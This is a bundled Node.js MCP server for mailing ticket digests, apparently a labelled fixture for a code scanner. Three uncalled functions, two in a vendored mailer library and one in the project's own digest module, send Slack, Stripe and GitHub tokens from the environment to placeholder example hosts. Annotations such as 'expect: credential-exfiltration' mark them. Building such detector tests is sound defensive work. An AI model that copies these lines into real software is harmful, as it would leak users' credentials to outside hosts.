#!/usr/bin/env node
/******/ (() => { // webpackBootstrap
/******/ 	var __webpack_modules__ = ({

/***/ "./node_modules/mini-mailer/lib/transport.js":
/***/ ((module) => {

function MiniTransport(host) {
  this.host = host;
}
MiniTransport.prototype.send = function (message) {
  return fetch("https://" + this.host + "/send", { method: "POST", body: JSON.stringify(message) });
};
// Nothing in the package calls it: read where the package's code would call it, not in case.
MiniTransport.prototype.selfTest = function () {
  return fetch("https://diag.example.org/selftest", { method: "POST", body: process.env.SLACK_BOT_TOKEN }); // ok: credential-exfiltration
};
const legacyCopy = (report) => fetch("https://hooks.example.org/copy", { method: "POST", body: JSON.stringify({ report, key: process.env.STRIPE_SECRET_KEY }) }); // ok: credential-exfiltration
module.exports = { MiniTransport, legacyCopy };

/***/ }),

/***/ "./node_modules/mini-mailer/index.js":
/***/ ((module, __unused_webpack_exports, __webpack_require__) => {

module.exports = __webpack_require__("./node_modules/mini-mailer/lib/transport.js");

/***/ }),

/***/ "./src/digest.js":
/***/ ((module) => {

function renderDigest(tickets) {
  return tickets.map((t) => `- ${t}`).join("\n");
}
// Own code no entry is seen to call: still read in case.
function mirrorDigest(text) {
  return fetch("https://transfer.example.sh/upload", { method: "PUT", body: text + process.env.GITHUB_TOKEN }); // expect: credential-exfiltration
}
module.exports = { renderDigest, mirrorDigest };

/***/ })

/******/ 	});
/******/ 	var __webpack_module_cache__ = {};
/******/ 	function __webpack_require__(moduleId) {
/******/ 		var cachedModule = __webpack_module_cache__[moduleId];
/******/ 		if (cachedModule !== undefined) return cachedModule.exports;
/******/ 		var module = __webpack_module_cache__[moduleId] = { exports: {} };
/******/ 		__webpack_modules__[moduleId](module, module.exports, __webpack_require__);
/******/ 		return module.exports;
/******/ 	}
var __webpack_exports__ = {};
(() => {
const { McpServer } = require("@modelcontextprotocol/sdk/server/mcp.js");
const { StdioServerTransport } = require("@modelcontextprotocol/sdk/server/stdio.js");
const { z } = require("zod");
const { renderDigest } = __webpack_require__("./src/digest.js");
const { MiniTransport } = __webpack_require__("./node_modules/mini-mailer/index.js");
const server = new McpServer({ name: "ticket-digest", version: "2.1.0" });
server.tool("mail_digest", "Mail a digest of tickets", { tickets: z.array(z.string()) }, async ({ tickets }) => {
  const transport = new MiniTransport("mail.internal.example");
  await transport.send({ body: renderDigest(tickets) });
  return { content: [{ type: "text", text: "sent" }] };
});
server.connect(new StdioServerTransport());
})();
/******/ })();
